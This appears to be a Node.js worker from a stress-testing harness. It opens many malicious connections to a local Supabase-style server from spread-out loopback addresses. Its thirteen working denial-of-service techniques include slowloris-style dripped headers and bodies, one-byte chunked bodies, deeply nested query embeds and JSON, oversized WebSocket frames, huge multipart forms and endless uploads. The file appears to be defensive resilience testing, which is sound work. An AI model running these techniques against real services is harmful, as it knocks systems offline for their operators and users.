// Connections that mean harm, each kind in its own way, from separate addresses (all of 127.0.0.0/8 is this machine):
// `{ start: { port, key, kind, count, first } }` opens `count` of a kind, from addresses numbered from `first` on,
// fifty each. A closed one is opened again five seconds later. `{ stop }` closes them all. They go after the others:
// from afar they would take no processor of the machine that they attack.
import { connect } from 'node:net'
import { constants, setPriority } from 'node:os'

setPriority(constants.priority.PRIORITY_BELOW_NORMAL)

const MB = 1024 * 1024
const PER_ADDRESS = 50
const AGAIN = 5000
const DRIP = 1000

let running = null

const head = (method, path, headers = {}) =>
  `${method} ${path} HTTP/1.1\r\nhost: localhost\r\n${Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}\r\n`
const json = ({ key }) => ({ apikey: key, 'content-type': 'application/json' })
const spaces = Buffer.alloc(MB, ' ')

function nested(depth, number) {
  let select = 'id'
  for (let level = depth; level >= 1; level--) {
    const embed = level % 2 ? `g${number}_${level}:public_profiles` : `t${number}_${level}:tasks`
    select = `id,${embed}!task_giver_id(${select})`
  }
  return encodeURIComponent(select)
}

const upgrade = ({ key }) =>
  head('GET', `/realtime/v1/websocket?apikey=${key}&vsn=2.0.0`, {
    connection: 'Upgrade',
    upgrade: 'websocket',
    'sec-websocket-version': 13,
    'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
  })

let numbers = 0

/** Behaviour of each kind of open connection: `drip` sends a little every second, `again` asks after each answer. */
const KINDS = {
  'slow heads': (socket, drip) => {
    socket.write('GET /rest/v1/tasks HTTP/1.1\r\nhost: localhost\r\n')
    drip('x-a: b\r\n')
  },
  'slow bodies': (socket, drip, _again, order) => {
    socket.write(head('POST', '/rest/v1/tasks', { ...json(order), 'content-length': 9 * MB }))
    drip(' ')
  },
  'unfinished bodies of 9 MB': (socket, _drip, _again, order) => {
    socket.write(head('POST', '/rest/v1/tasks', { ...json(order), 'content-length': 9 * MB + 1 }))
    for (let n = 0; n < 9; n++) socket.write(spaces)
  },
  'bodies in chunks of one byte': (socket, _drip, _again, order) => {
    socket.write(head('POST', '/rest/v1/tasks', { ...json(order), 'transfer-encoding': 'chunked' }))
    socket.write('1\r\n \r\n'.repeat(200_000))
  },
  'idle connections': (socket, _drip, _again, { key }) => {
    socket.write(head('GET', '/auth/v1/settings', { apikey: key }))
  },
  'nested embeds': (socket, _drip, again, { key }) =>
    again(() =>
      socket.write(head('GET', `/rest/v1/tasks?select=${nested(18, numbers++)}&limit=1`, { apikey: key })),
    ),
  'sockets that only connect': (socket, _drip, _again, order) => {
    socket.write(upgrade(order))
  },
  'sockets that begin a message': (socket, _drip, _again, order) => {
    socket.write(upgrade(order))
    const frame = Buffer.alloc(14)
    frame.writeUInt8(0x81, 0)
    frame.writeUInt8(0xff, 1)
    frame.writeBigUInt64BE(BigInt(3 * MB - 1), 2)
    socket.write(frame)
    for (let n = 0; n < 2; n++) socket.write(spaces)
  },
  'answers that are not read': (socket, _drip, _again, { key }) => {
    socket.pause()
    for (let n = 0; n < 4; n++)
      socket.write(head('GET', '/rest/v1/tasks?select=*&limit=1000', { apikey: key }))
  },
  'a thousand headers': (socket, _drip, again) =>
    again(() => socket.write(`GET / HTTP/1.1\r\nhost: localhost\r\n${'a: b\r\n'.repeat(1000)}\r\n`)),
  'forms of many parts': (socket, _drip, again, { key }) => {
    const part = '--b\r\ncontent-disposition: form-data; name="a"\r\n\r\nb\r\n'.repeat(20_000)
    again(() => {
      const own = {
        apikey: key,
        authorization: `Bearer ${key}`,
        'content-type': 'multipart/form-data; boundary=b',
      }
      socket.write(
        head('POST', '/storage/v1/object/profile-photos/a.png', { ...own, 'content-length': part.length }),
      )
      socket.write(part)
    })
  },
  'JSON of a million levels': (socket, _drip, again, order) => {
    const body = '['.repeat(MB - 1)
    again(() =>
      socket.write(
        head('POST', '/auth/v1/token?grant_type=password', {
          ...json(order),
          'content-length': body.length,
        }) + body,
      ),
    )
  },
  'uploads that never end': (socket, drip, _again, { key }) => {
    const own = { apikey: key, authorization: `Bearer ${key}`, 'content-type': 'image/png' }
    socket.write(
      head('POST', '/storage/v1/object/profile-photos/a.png', { ...own, 'content-length': 5 * MB }),
    )
    drip(' ')
  },
}

class Attack {
  constructor(order) {
    this.order = order
    this.sockets = new Set()
    this.drips = new Map()
    this.opened = 0
    this.over = false
    this.timer = setInterval(() => {
      for (const [socket, text] of this.drips) socket.write(text)
    }, DRIP)
    for (let n = 0; n < order.count; n++) setTimeout(() => this.open(n), (n / order.count) * 2000)
  }

  open(number) {
    if (this.over) return
    const { port, kind, first } = this.order
    const address = first + Math.floor(number / PER_ADDRESS)
    const localAddress = `127.${1 + (address >> 8)}.${address & 255}.1`
    const socket = connect({ port, host: '127.0.0.1', localAddress })
    this.sockets.add(socket)
    this.opened++
    socket.on('error', () => {})
    socket.on('close', () => {
      this.sockets.delete(socket)
      this.drips.delete(socket)
      setTimeout(() => this.open(number), AGAIN)
    })
    let ask = null
    socket.on('data', () => ask?.())
    socket.once('connect', () =>
      KINDS[kind](
        socket,
        (text) => this.drips.set(socket, text),
        (send) => {
          ask = () => setTimeout(() => socket.writable && send(), 50)
          send()
        },
        this.order,
      ),
    )
  }

  stop() {
    this.over = true
    clearInterval(this.timer)
    for (const socket of this.sockets) socket.destroy()
    return this.opened
  }
}

process.on('message', (message) => {
  if (message.start) {
    running = message.start.map((order) => new Attack(order))
    process.send({ answer: true })
  } else if (message.open) {
    process.send({ answer: running.reduce((sum, { sockets }) => sum + sockets.size, 0) })
  } else if (message.stop) {
    process.send({ answer: running.map((attack) => attack.stop()) })
  }
})
process.send({ ready: Object.keys(KINDS) })
